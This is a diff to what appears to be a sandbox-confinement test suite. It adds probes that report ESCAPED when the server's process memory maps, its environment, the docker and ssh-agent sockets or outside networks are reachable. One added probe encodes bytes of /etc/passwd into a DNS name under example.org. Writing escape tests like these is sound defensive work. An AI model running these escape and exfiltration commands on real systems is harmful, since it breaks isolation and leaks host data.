@@ -102,7 +102,7 @@ def _processes() -> Iterator[tuple[str, str]]:
         "process: tracing the server",
         "strace -p 2 -o /dev/null 2>/dev/null & sleep .3; kill $! 2>/dev/null && echo ESCAPED",
     )
-    yield "process: memory of the server", "head -c 1 /proc/2/mem 2>/dev/null && echo ESCAPED"
+    yield "process: memory of the server", _READ.format("/proc/2/maps")
     yield "process: environment of the server", _READ.format("/proc/2/environ")
     yield "process: a higher priority", "nice -n -5 true 2>&1 | grep -q . || echo ESCAPED"
     yield "process: to be root by su", "su -c id 2>/dev/null </dev/null | grep -q uid=0 && echo ESCAPED"
@@ -169,11 +169,23 @@ def _network() -> Iterator[tuple[str, str]]:
         ("a socket of the host without a file", "AF_UNIX", "SOCK_STREAM", "connect(chr(0) + '{abstract}')"),
         ("a container engine", "AF_UNIX", "SOCK_STREAM", "connect('/var/run/docker.sock')"),
         ("the system bus", "AF_UNIX", "SOCK_STREAM", "connect('/run/dbus/system_bus_socket')"),
+        ("the system's log", "AF_UNIX", "SOCK_DGRAM", "connect('/dev/log')"),
+        ("a screen", "AF_UNIX", "SOCK_STREAM", "connect(chr(0) + '/tmp/.X11-unix/X0')"),
+        ("an agent with keys", "AF_UNIX", "SOCK_STREAM", "connect(__import__('os').environ['SSH_AUTH_SOCK'])"),
+        ("the host's loopback as version 6", "AF_INET6", "SOCK_STREAM", "connect(('::ffff:127.0.0.1', {port}))"),
+        ("another protocol", "AF_INET", "SOCK_STREAM, 132", "connect(('{address}', {port}))"),
+        ("neighbours", "AF_INET", "SOCK_DGRAM", "sendto(b'x', ('224.0.0.251', 5353))"),
+        ("neighbours over IPv6", "AF_INET6", "SOCK_DGRAM", "sendto(b'x', ('ff02::fb', 5353))"),
+        ("a ping without rights", "AF_INET", "SOCK_DGRAM, 1", "sendto(b'x', ('8.8.8.8', 0))"),
+        ("the host of a virtual machine", "AF_VSOCK", "SOCK_STREAM", "connect((2, 1024))"),
     ):
         connect = _CONNECT.format(family=family, kind=kind, act=act).replace("{{", "{").replace("}}", "}")
         yield f"network: {name}", connect + " 2>/dev/null"
     yield "network: by the shell", "(exec 3<>/dev/tcp/127.0.0.1/{port}) 2>/dev/null && echo ESCAPED"
     yield "network: by curl", "curl -s -m 2 http://127.0.0.1:{port}/ | grep -q . && echo ESCAPED"
+    label = "$(head -c 20 /etc/passwd | base32 | tr -d =)"
+    yield "network: data in a name", f"getent ahosts {label}.example.org 2>/dev/null | grep -q . && echo ESCAPED"
+    yield "network: a repository", "timeout 3 git ls-remote http://127.0.0.1:{port}/ 2>&1 | grep -q . || echo ESCAPED"
     yield "network: a name", "getent ahostsv4 example.org 2>/dev/null | grep -q . && echo ESCAPED"
     yield "network: a route", "ip route add default dev lo 2>/dev/null && echo ESCAPED"
     yield "network: an interface", "ip link add new type dummy 2>/dev/null && echo ESCAPED"
